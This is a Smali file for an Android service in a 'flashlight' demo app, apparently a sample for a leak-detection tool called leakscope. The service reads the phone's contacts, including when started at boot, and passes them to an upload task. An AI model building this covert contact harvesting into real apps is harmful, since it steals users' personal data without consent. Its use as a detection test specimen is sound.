.class public Lorg/leakscope/demo/flashlight/UploadService;
.super Landroid/app/Service;
.source "UploadService.java"

# Receives the payload as an Intent extra (from MainActivity) or, when started
# without one (from BootReceiver), reads the contacts itself through the
# content://com.android.contacts URI. The upload runs on an Executor.


.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Landroid/app/Service;-><init>()V

    return-void
.end method


.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .registers 3

    const/4 v0, 0x0

    return-object v0
.end method


.method public onStartCommand(Landroid/content/Intent;II)I
    .registers 8

    const/4 v0, 0x0

    if-eqz p1, :no_intent

    const-string v0, "payload"

    invoke-virtual {p1, v0}, Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;

    move-result-object v0

    :no_intent
    if-nez v0, :have_payload

    const-string v0, "content://com.android.contacts/data/phones"

    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;

    move-result-object v0

    invoke-static {p0, v0}, Lorg/leakscope/demo/flashlight/ContactsReader;->readPhones(Landroid/content/Context;Landroid/net/Uri;)Ljava/lang/String;

    move-result-object v0

    :have_payload
    invoke-static {}, Ljava/util/concurrent/Executors;->newSingleThreadExecutor()Ljava/util/concurrent/ExecutorService;

    move-result-object v1

    new-instance v2, Lorg/leakscope/demo/flashlight/UploadService$UploadTask;

    invoke-direct {v2, v0}, Lorg/leakscope/demo/flashlight/UploadService$UploadTask;-><init>(Ljava/lang/String;)V

    invoke-interface {v1, v2}, Ljava/util/concurrent/ExecutorService;->execute(Ljava/lang/Runnable;)V

    const/4 v0, 0x2

    return v0
.end method
